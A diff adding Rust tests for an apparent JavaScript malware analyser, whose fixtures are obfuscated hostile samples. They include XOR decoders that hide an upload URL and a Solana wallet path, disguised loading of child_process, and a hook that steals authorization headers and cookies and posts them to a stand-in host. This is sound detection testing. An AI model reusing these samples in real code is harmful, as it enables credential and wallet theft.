@@ -282,3 +282,108 @@ fn function_prototype_constructor_is_function() {
     let f = facts("var mk = Array.prototype.constructor; mk(3);");
     assert!(!f.calls.iter().any(|c| c.path == "Function"));
 }
+
+#[test]
+fn enum_members_and_xor_decoders_fold() {
+    // A compiled TypeScript enum supplies the key of a one-line XOR decoder over hex.
+    let src = "var Kind;\n(function (Kind) {\n    Kind[Kind[\"Core\"] = 0] = \"Core\";\n    Kind[Kind[\"Auth\"] = 1] = \"Auth\";\n})(Kind || (Kind = {}));\nconst K = Kind[0] + Kind[Kind.Auth];\nconst d = (h) => Buffer.from(h, \"hex\").map((b, i) => b ^ K.charCodeAt(i % K.length)).toString();\nconst u = d(\"2b1b0615324f5b47271d1d156f100c092e1f1e006e0004042c0e16\");";
+    let f = facts(src);
+    assert!(
+        f.derived
+            .iter()
+            .any(|(d, _)| d == "https://drop.example/upload"),
+        "{:?}",
+        f.derived
+    );
+    // Over the text's own char codes, with a string key; the module it names is loaded.
+    let src = "const k = 'Abc'; function x(s) { return s.split('').map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ k.charCodeAt(i % k.length))).join('') } require(x('\\x22\\x0a\\x0a\\x2d\\x06\\x3c\\x31\\x10\\x0c\\x22\\x07\\x10\\x32'))";
+    assert!(has_module(&facts(src), "child_process"));
+    // Items of a constant array fold by index.
+    let f = facts("const parts = ['child_', 'process']; require(parts[0] + parts[1])");
+    assert!(has_module(&f, "child_process"));
+}
+
+#[test]
+fn xor_decoders_without_a_constant_key_do_not_fold() {
+    // The key comes from the caller: nothing to fold.
+    let src = "const d = (h) => Buffer.from(h, 'hex').map((b, i) => b ^ key.charCodeAt(i % key.length)).toString(); const u = d('2b1b0615324f5b47271d1d156f100c092e1f1e006e0004042c0e16');";
+    let f = facts(src);
+    assert!(!f.derived.iter().any(|(d, _)| d.contains("drop.example")));
+    // An enum-like assignment whose label differs from its name is not an enum.
+    let f = facts("var E = {}; E[E['a'] = 0] = 'b'; const s = 'child_' + E[0]; require(s)");
+    assert!(!has_module(&f, "child_b"));
+    // An array index past the end folds to nothing.
+    let f = facts("const parts = ['fs']; require('child_' + parts[3])");
+    assert!(f.modules.iter().all(|(m, _)| m != "child_undefined"));
+}
+
+#[test]
+fn xor_decoder_functions_over_base64_fold_with_an_enum_key() {
+    // A function declaration (not an arrow) over base64, the key from enum names picked by
+    // member (`Tier[Tier.Edge]`): the base64 decoder shape alone must not win.
+    let src = "var Tier;\n(function (Tier) {\n    Tier[Tier[\"Edge\"] = 0] = \"Edge\";\n    Tier[Tier[\"Origin\"] = 1] = \"Origin\";\n})(Tier || (Tier = {}));\nconst SALT = Tier[1 + 1] || Tier[Tier.Edge];\nconst KEY = 'Tier' + Tier[Tier.Edge];\nfunction unseal(s) {\n    return Buffer.from(s, \"base64\").map((b, i) => b ^ KEY.charCodeAt(i % KEY.length)).toString();\n}\nconst p = unseal(\"egoKHCMNAEonBgkTKwVIDDBHDwEqCg==\");";
+    let f = facts(src);
+    assert!(
+        f.derived.iter().any(|(d, _)| d == ".config/solana/id.json"),
+        "{:?}",
+        f.derived
+    );
+}
+
+#[test]
+fn code_in_a_string_literal_with_escapes_is_analysed() {
+    // A hook kept in a string to be appended to other files: the `\\n` escape inside must not
+    // hide it from the analysis.
+    let src = r#"const HOOK = ';(function(){try{var h=require("http"),q=h.request;function w(o){try{var a=o&&o.headers||{},t=a.authorization||a.cookie;if(t){var r=q({host:"h.example",path:"/c",method:"POST"});r.end(String(o.host)+"\\n"+t)}}catch(e){}}h.request=function(o){w(o);return q.apply(this,arguments)}}catch(e){}})();'
+fs.writeFileSync(file, src + HOOK)"#;
+    let f = facts(src);
+    assert!(
+        f.assigns.iter().any(|(p, _)| p == "http.request"),
+        "{:?}",
+        f.assigns
+    );
+    assert!(has_module(&f, "http"));
+}
+
+#[test]
+fn prose_with_escapes_is_not_analysed_as_code() {
+    let src = r#"const HELP = 'Usage: tool [options]\n  --require <module>  preload a module (like node -r)\n  --port <n>  the port to listen on, default 8080\n  --verbose  print every request';"#;
+    let f = facts(src);
+    assert!(f.modules.is_empty(), "{:?}", f.modules);
+    assert!(f.assigns.is_empty());
+}
+
+#[test]
+fn module_loader_wrappers_and_mapped_lists_load_modules() {
+    let src = "const M = module.constructor; const load = (id) => M._load(id, module, false); const [fs, os] = ['fs', 'os'].map(load); const cp = load('child_process'); fs.readFileSync(os.homedir() + '/x'); cp.exec('id');";
+    let f = facts(src);
+    assert!(
+        has_module(&f, "fs") && has_module(&f, "os"),
+        "{:?}",
+        f.modules
+    );
+    assert!(has_module(&f, "child_process"));
+    let paths = call_paths(&f);
+    assert!(paths.contains(&"fs.readFileSync"), "{paths:?}");
+    assert!(paths.contains(&"child_process.exec"), "{paths:?}");
+}
+
+#[test]
+fn other_one_parameter_functions_are_not_loaders() {
+    // The parameter is not what is loaded, and a mapper that is not a loader.
+    let src = "const load = (id) => require('./table')[id]; const [a, b] = ['fs', 'os'].map((s) => s.toUpperCase()); const x = load('child_process');";
+    let f = facts(src);
+    assert!(!has_module(&f, "child_process"));
+    assert!(!has_module(&f, "fs"));
+}
+
+#[test]
+fn call_bound_functions_are_their_target() {
+    let f = facts(
+        "const send = Function.prototype.call.bind(globalThis['fet' + 'ch']); send(null, u, { method: 'POST', body: b });",
+    );
+    assert!(call_paths(&f).contains(&"fetch"), "{:?}", call_paths(&f));
+    // bind of something unknown stays unknown
+    let f = facts("const g = Function.prototype.call.bind(helper); g(null, 1);");
+    assert!(!call_paths(&f).contains(&"helper"));
+}
